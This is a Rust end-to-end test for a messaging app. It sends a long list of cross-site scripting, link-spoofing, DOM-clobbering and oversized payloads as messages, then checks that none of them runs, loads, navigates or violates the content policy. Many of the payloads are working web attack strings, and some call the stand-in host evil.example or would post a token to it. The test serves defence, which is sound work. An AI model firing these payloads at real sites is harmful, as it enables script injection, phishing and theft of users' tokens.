//! Messages that mean harm, one after the other in the real window: nothing in them runs, loads or
//! leads away, and the window still answers.
//!
//! What is looked at is the page itself: a canary that every script of theirs would set, the elements
//! and attributes that came of a message, what the page loaded, and violations of its content policy,
//! of which there are none where nothing was tried.

use anyhow::Context;
use serde_json::{Value, json};
use tidings_control::{Draft, Priority, Recipient, Request, View};
use tidings_tests::window::Window;
use tidings_tests::{test, wait};

/// What somebody would try; each would set `owned`, or fetch from `evil.example`.
const PAYLOADS: &[&str] = &[
    "<script>window.owned=1</script>",
    "<script src=https://evil.example/x.js></script>",
    "<ScRiPt>window.owned=1</sCrIpT>",
    "<scr<script>ipt>window.owned=1</script>",
    "<img src=x onerror=window.owned=1>",
    "<img src=\"https://evil.example/t.png\">",
    "![](https://evil.example/t.png)",
    "![x](javascript:window.owned=1)",
    "![a](x\"onerror=\"window.owned=1)",
    "<svg onload=window.owned=1>",
    "<svg><script>window.owned=1</script></svg>",
    "<svg><animate onbegin=window.owned=1 attributeName=x dur=1s></svg>",
    "<svg><use href=\"https://evil.example/x.svg#a\"/></svg>",
    "<svg><foreignObject><img src=x onerror=window.owned=1></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.owned=1>",
    "<math><a xlink:href=javascript:window.owned=1>x</a></math>",
    "<noscript><p title=\"</noscript><img src=x onerror=window.owned=1>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.owned=1>",
    "<template><script>window.owned=1</script></template>",
    "<iframe src=javascript:window.owned=1></iframe>",
    "<iframe srcdoc=\"<script>parent.owned=1</script>\"></iframe>",
    "<iframe src=https://evil.example/></iframe>",
    "<object data=https://evil.example/x></object>",
    "<embed src=https://evil.example/x>",
    "<applet code=x></applet>",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example/\">",
    "<meta http-equiv=refresh content=\"0;url=javascript:window.owned=1\">",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>*{background:url(https://evil.example/x)}</style>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<div style=\"position:fixed;inset:0;background:url(https://evil.example/x)\">over</div>",
    "<p style=\"animation:x\" onanimationstart=window.owned=1>a</p>",
    "<form action=https://evil.example/><input name=token><button>Go</button></form>",
    "<button onclick=window.owned=1 autofocus onfocus=window.owned=1>x</button>",
    "<input autofocus onfocus=window.owned=1>",
    "<select autofocus onfocus=window.owned=1></select>",
    "<textarea autofocus onfocus=window.owned=1></textarea>",
    "<details open ontoggle=window.owned=1>x</details>",
    "<video><source onerror=window.owned=1></video>",
    "<audio src=https://evil.example/a.mp3 autoplay onerror=window.owned=1></audio>",
    "<body onload=window.owned=1>",
    "<marquee onstart=window.owned=1>x</marquee>",
    "<a href=javascript:window.owned=1>raw</a>",
    "[a](javascript:window.owned=1)",
    "[a](JaVaScRiPt:window.owned=1)",
    "[a](java&#115;cript:window.owned=1)",
    "[a](java\tscript:window.owned=1)",
    "[a](\u{1}javascript:window.owned=1)",
    "[a](data:text/html,<script>window.owned=1</script>)",
    "[a](data:text/html;base64,PHNjcmlwdD5vd25lZD0xPC9zY3JpcHQ+)",
    "[a](vbscript:window.owned=1)",
    "[a](file:///etc/passwd)",
    "[a](tauri://localhost/)",
    "[a](ipc://localhost/ask)",
    "[a](//evil.example/)",
    "[a](/index.html)",
    "[a](#x)",
    "<javascript:window.owned=1>",
    "[a]: javascript:window.owned=1\n\n[a]",
    "[https://bank.example/](https://evil.example/)",
    "[safe\u{202e}elpmaxe.live](https://evil.example/)",
    "\u{2066}https://bank.example\u{2069}\u{202e}gnp.exe",
    "[аррӏе.com](https://xn--80ak6aa92e.com/)",
    "https://аррӏе.com/",
    "https://bank.example@evil.example/",
    "a\u{200b}b\u{feff}c\u{2060}d\u{e0041}",
    "<a id=app name=app>clobbered</a><form id=document name=body></form>",
    "<img name=querySelector><input id=parentNode name=attributes>",
    "`<img src=x onerror=window.owned=1>`",
    "```html\n<script>window.owned=1</script>\n```",
    "```\"><script>window.owned=1</script>\nx\n```",
    "```x onload=window.owned=1\nx\n```",
    "{{constructor.constructor('window.owned=1')()}} ${window.owned=1} {@html owned}",
    "<![CDATA[<script>window.owned=1</script>]]><!--><img src=x onerror=window.owned=1>-->",
    "<?xml version=1?><!DOCTYPE html><html><head><title>x</title></head>",
    "| a |\n|---|\n| <img src=x onerror=window.owned=1> |",
    "\u{0}<scr\u{0}ipt>window.owned=1</scr\u{0}ipt>\u{1b}]52;c;eA==\u{7}",
];

/// What a message's text may be made of.
const ELEMENTS: &str = "P BR WBR HR H1 H2 H3 H4 H5 H6 BLOCKQUOTE UL OL LI PRE CODE EM STRONG DEL A TABLE THEAD TBODY TR TH TD MARK SPAN";

/// And with which attributes.
const ATTRIBUTES: &str = "href rel class start align data-src aria-describedby tabindex";

/// Payloads that are too long to be written down.
fn made() -> Vec<String> {
    let line = "x".repeat(900 * 1024);
    let table = format!(
        "|{}\n|{}\n{}",
        "a|".repeat(100),
        "-|".repeat(100),
        format!("|{}\n", "b|".repeat(100)).repeat(1000)
    );
    vec![
        line,
        table,
        ">".repeat(20_000),
        format!("{}x", "- ".repeat(10_000)),
        "*_".repeat(50_000),
        "[".repeat(50_000),
        "<div>".repeat(20_000),
        "&".repeat(200_000),
        "e\u{301}\u{301}\u{301}\u{301}".repeat(20_000),
    ]
}

/// Listens for what must not happen, before the first message is shown.
const WATCH: &str = "window.violations = []; document.addEventListener('securitypolicyviolation', (e) => window.violations.push(e.blockedURI || e.violatedDirective)); window.place = location.href;";

/// What came of the message that is shown.
const LOOK: &str = r"
    const [elements, attributes] = [...arguments].map((words) => new Set(words.split(' ')));
    const body = document.querySelector('[data-testid=message-body]');
    const strange = [];
    for (const element of body.querySelectorAll('*')) {
        if (!elements.has(element.tagName)) strange.push(element.tagName);
        for (const { name, value } of element.attributes) {
            if (!attributes.has(name)) strange.push(`${element.tagName}.${name}`);
            if (name === 'data-src' && !value.startsWith('https://')) strange.push(value);
            if (name === 'href' && !/^(https?|mailto):/.test(value)) strange.push(value);
        }
    }
    if (/[\u202a-\u202e\u2066-\u2069]/.test(body.textContent)) strange.push('bidi');
    return {
        strange,
        owned: window.owned ?? null,
        moved: location.href !== window.place,
        violations: window.violations,
        loaded: performance.getEntriesByType('resource').map((e) => e.name)
            .filter((name) => /evil|apple|xn--|bank/.test(name)),
    };";

async fn look(window: &Window) -> anyhow::Result<Value> {
    let arguments = vec![json!(ELEMENTS), json!(ATTRIBUTES)];
    Ok(window.client().execute(LOOK, arguments).await?)
}

#[tokio::test]
async fn nothing_in_a_message_runs_loads_or_leads_away() -> anyhow::Result<()> {
    test(async |rig| {
        let _display = rig.display().await?;
        let agent = rig.agent().await?;
        agent.host("me").await?;
        agent.until_connected().await?;
        let view = View::Inbox { message: None };
        agent.ask(Request::Show { view }).await?;
        let window = rig.window().await?;
        window.find("nav-inbox").await?;
        window.client().execute(WATCH, Vec::new()).await?;

        let all: Vec<String> = PAYLOADS.iter().map(|p| (*p).to_owned()).chain(made()).collect();
        assert!(all.len() >= 60);
        for (number, body) in all.iter().enumerate() {
            let title = format!("payload {number}");
            let draft = Draft {
                to: vec![Recipient::Person("me".to_owned())],
                title: title.clone(),
                body: body.clone(),
                priority: Priority::Default,
                link: String::new(),
                relay: None,
                ..Draft::default()
            };
            agent.ask(Request::Send { draft, kept: None }).await?;
            let id = agent.stored(&title).await?.id;
            let view = View::Inbox { message: Some(id) };
            agent.ask(Request::Show { view }).await?;
            wait::until(&title, wait::START, async || {
                let script = "return document.querySelector('[data-testid=message-title]')?.textContent.trim() === arguments[0] && !!document.querySelector('[data-testid=message-body]')";
                let shown = window.client().execute(script, vec![json!(title)]).await?;
                Ok((shown == json!(true)).then_some(()))
            })
            .await?;
            let found = look(&window).await?;
            let expected = json!({"strange": [], "owned": null, "moved": false, "violations": [], "loaded": []});
            let short: String = body.chars().take(100).collect();
            anyhow::ensure!(found == expected, "{short:?} became {found}");
        }

        // A link is followed nowhere before the person was told where it leads.
        window.fill("search", "bank.example").await?;
        let script = "document.querySelector('[data-testid=message-body] a')?.click()";
        window.client().execute(script, Vec::new()).await?;
        window.client().execute("document.activeElement.blur()", Vec::new()).await?;
        let found = look(&window).await?;
        assert_eq!((&found["owned"], &found["moved"]), (&Value::Null, &json!(false)));
        // It still does what it is for.
        window.fill("search", "payload 3").await?;
        window.select("[data-testid='inbox-row'] mark").await.context("the window answers")?;
        Ok(())
    })
    .await
}
